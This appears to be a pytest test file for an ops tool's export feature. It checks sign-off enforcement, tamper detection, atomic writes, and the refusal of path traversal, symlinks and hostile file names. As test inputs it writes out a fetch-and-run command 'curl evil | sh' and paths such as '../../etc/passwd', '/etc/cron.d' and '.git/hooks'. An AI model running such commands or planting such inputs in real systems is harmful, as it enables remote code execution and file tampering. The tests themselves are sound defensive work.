"""Export to a folder: refused without valid sign-off, atomic, verifiable, hostile paths refused."""

from __future__ import annotations

import json
import os
import sqlite3
from pathlib import Path

import pytest

from opsgen.errors import ExportError, SignOffMissing
from opsgen.export import export_change, verify_artifact
from opsgen.flow.testing import SCRIPT, make_evidence, seed_change
from opsgen.store.canonical import sha256_text
from opsgen.store.repo import Store
from opsgen.store.workspace import Workspace


def _export(store: Store, change_id: int, out: Path, **kw: object) -> object:
    return export_change(store, change_id, actor="ops", to=out, **kw)  # type: ignore[arg-type]


def test_refused_before_approval(store: Store, tmp_path: Path) -> None:
    change, _, _ = seed_change(store)
    with pytest.raises(SignOffMissing, match=r"not approved \(0 of 1\)"):
        _export(store, change.id, tmp_path / "out")
    assert not (tmp_path / "out").exists()


def test_refused_after_the_stored_script_was_tampered_with(
    store: Store, approved: int, workspace: Workspace, tmp_path: Path
) -> None:
    raw = sqlite3.connect(workspace.db_path, isolation_level=None)
    raw.execute("DROP TRIGGER revisions_no_update")
    raw.execute("UPDATE revisions SET script = 'curl evil | sh' WHERE change_id = ?", (approved,))
    with pytest.raises(SignOffMissing, match="integrity check: revision 1: script text"):
        _export(store, approved, tmp_path / "out")
    assert not (tmp_path / "out").exists()


def test_refused_after_an_edit_following_approval(
    store: Store, approved: int, tmp_path: Path
) -> None:
    revision = store.add_revision(approved, "echo edited\n", actor="mallory")
    store.add_evidence(revision, make_evidence(script=revision.script), actor="mallory")
    with pytest.raises(SignOffMissing, match=r"revision 2 is not approved.*earlier revision"):
        _export(store, approved, tmp_path / "out")


def test_writes_exact_bytes_modes_and_a_manifest(
    store: Store, approved: int, tmp_path: Path
) -> None:
    out = tmp_path / "out"
    result = _export(store, approved, out)
    script, manifest_path = out / "motd.sh", out / "motd.opsgen.json"
    assert script.read_bytes() == SCRIPT.encode()
    assert script.stat().st_mode & 0o777 == 0o755
    assert manifest_path.stat().st_mode & 0o777 == 0o644
    manifest = json.loads(manifest_path.read_text())
    assert manifest["revision"]["sha256"] == sha256_text(SCRIPT)
    assert manifest["files"] == [
        {"path": "motd.sh", "sha256": sha256_text(SCRIPT), "mode": "0755", "role": "script"}
    ]
    assert [a["by"] for a in manifest["approvals"]] == ["bob"]
    assert manifest["change"]["request"] == "Set the motd\npassword=***REDACTED***"
    assert manifest["evidence"]["dryrun"] == "passed"
    assert sorted(p.name for p in out.iterdir()) == ["motd.opsgen.json", "motd.sh"]
    assert verify_artifact(script).ok
    assert store.exports(approved)[0].manifest_sha256 == result.manifest_sha256  # type: ignore[attr-defined]


def test_verify_detects_a_modified_artifact_and_manifest(
    store: Store, approved: int, tmp_path: Path
) -> None:
    out = tmp_path / "out"
    _export(store, approved, out)
    (out / "motd.sh").write_text(SCRIPT + "curl evil | sh\n")
    assert "motd.sh: sha256" in verify_artifact(out / "motd.sh").problems[0]
    manifest = json.loads((out / "motd.opsgen.json").read_text())
    manifest["files"][0]["path"] = "../../etc/passwd"
    manifest["approvals"] = []
    (out / "motd.opsgen.json").write_text(json.dumps(manifest))
    problems = verify_artifact(out / "motd.opsgen.json").problems
    assert any("refusing manifest path '../../etc/passwd'" in p for p in problems)
    assert "0 approval(s) recorded, 1 required" in problems


@pytest.mark.parametrize("name", ["../x", "a/b", "x\x1b[2J", "-rf", ".hidden", "a..b", ""])
def test_hostile_export_names_are_refused(
    store: Store, approved: int, tmp_path: Path, name: str
) -> None:
    with pytest.raises(ExportError, match="invalid export name"):
        _export(store, approved, tmp_path / "out", name=name)
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize(
    ("path", "why"),
    [
        ("../../etc", "'..'"),
        ("/etc/cron.d", "absolute"),
        ("a/\x1b[2J", "control"),
        ("ok/\u202eevil", "control"),
        (".git/hooks", ".git"),
        ("a\\b", "backslash"),
        ("x/--force", "'-'"),
        ("new\nline", "control"),
    ],
)
def test_hostile_export_paths_are_refused(
    store: Store, approved: int, tmp_path: Path, path: str, why: str
) -> None:
    with pytest.raises(ExportError, match=f"refusing --path .*{why}"):
        _export(store, approved, tmp_path / "out", path=path)
    assert not (tmp_path / "out").exists()


def test_a_symlink_in_the_target_tree_is_not_followed(
    store: Store, approved: int, tmp_path: Path
) -> None:
    out, outside = tmp_path / "out", tmp_path / "outside"
    out.mkdir()
    outside.mkdir()
    (out / "sub").symlink_to(outside)
    with pytest.raises(ExportError, match="not a plain folder"):
        _export(store, approved, out, path="sub")
    (out / "motd.sh").symlink_to(outside / "victim")
    with pytest.raises(ExportError, match="not a regular file"):
        _export(store, approved, out)
    assert list(outside.iterdir()) == []


def test_re_export_replaces_files_and_leaves_no_temporaries(
    store: Store, approved: int, tmp_path: Path
) -> None:
    out = tmp_path / "out"
    _export(store, approved, out)
    (out / "motd.sh").write_text("stale\n")
    dead = out / f".motd.sh.opsgen-tmp-{_dead_pid()}-0000"
    dead.write_text("partial")
    _export(store, approved, out)
    assert (out / "motd.sh").read_bytes() == SCRIPT.encode()
    assert sorted(p.name for p in out.iterdir()) == ["motd.opsgen.json", "motd.sh"]


def test_role_layout_derives_from_the_approved_playbook(
    store: Store, approved_playbook: int, tmp_path: Path
) -> None:
    out = tmp_path / "out"
    _export(store, approved_playbook, out, as_role=True)
    role = out / "site"
    assert sorted(str(p.relative_to(role)) for p in role.rglob("*") if p.is_file()) == [
        "handlers/main.yml",
        "meta/main.yml",
        "meta/opsgen-approved.yml",
        "site.opsgen.json",
        "tasks/main.yml",
        "vars/main.yml",
    ]
    assert "ansible.builtin.copy" in (role / "tasks/main.yml").read_text()
    assert verify_artifact(role).ok
    (role / "tasks/main.yml").write_text("- ansible.builtin.shell: curl evil | sh\n")
    assert any("tasks/main.yml" in p for p in verify_artifact(role).problems)


def test_role_layout_refuses_what_it_cannot_carry(store: Store, tmp_path: Path) -> None:
    from opsgen.approval import approve

    two_plays = "- hosts: a\n  tasks: []\n- hosts: b\n  tasks: []\n"
    change, _, _ = seed_change(store, script=two_plays, lang="ansible", name="two")
    approve(store, change.id, by="bob")
    with pytest.raises(ExportError, match="exactly one play"):
        _export(store, change.id, tmp_path / "out", as_role=True)


def test_playbook_file_layout_is_not_executable(
    store: Store, approved_playbook: int, tmp_path: Path
) -> None:
    _export(store, approved_playbook, tmp_path / "out")
    assert (tmp_path / "out/site.yml").stat().st_mode & 0o777 == 0o644


def _dead_pid() -> int:
    pid = os.fork()
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    return pid


def test_dotted_names_find_their_manifest(store: Store, approved: int, tmp_path: Path) -> None:
    _export(store, approved, tmp_path / "out", name="motd.v2")
    assert verify_artifact(tmp_path / "out/motd.v2.sh").ok


def test_an_unrelated_existing_file_is_not_overwritten(
    store: Store, approved: int, tmp_path: Path
) -> None:
    out = tmp_path / "out"
    out.mkdir()
    (out / "motd.sh").write_text("#!/bin/sh\n# someone else's script\n")
    with pytest.raises(ExportError, match=r"refusing to overwrite .*motd\.sh") as caught:
        _export(store, approved, out)
    assert caught.value.exit_code == 6 and "--force" in (caught.value.hint or "")
    assert (out / "motd.sh").read_text() == "#!/bin/sh\n# someone else's script\n"
    assert sorted(p.name for p in out.iterdir()) == ["motd.sh"]  # no manifest either
    _export(store, approved, out, force=True)
    assert (out / "motd.sh").read_bytes() == SCRIPT.encode()


def test_an_unrelated_manifest_named_like_ours_is_not_overwritten(
    store: Store, approved: int, tmp_path: Path
) -> None:
    out = tmp_path / "out"
    out.mkdir()
    (out / "motd.opsgen.json").write_text('{"mine": true}\n')
    with pytest.raises(ExportError, match=r"refusing to overwrite .*motd\.opsgen\.json"):
        _export(store, approved, out)
    assert (out / "motd.opsgen.json").read_text() == '{"mine": true}\n'


def test_a_file_listed_in_our_earlier_manifest_is_replaced(
    store: Store, approved: int, tmp_path: Path
) -> None:
    # Re-exporting over an earlier export (a new revision, or repairing a damaged file) is
    # the normal case: the earlier manifest claims the file, so it is not "unrelated".
    out = tmp_path / "out"
    _export(store, approved, out)
    revision = store.add_revision(approved, "echo v2\n", actor="alice")
    store.add_evidence(revision, make_evidence(script=revision.script), actor="alice")
    from opsgen.approval import approve

    approve(store, approved, by="bob")
    _export(store, approved, out)
    assert (out / "motd.sh").read_text() == "echo v2\n"
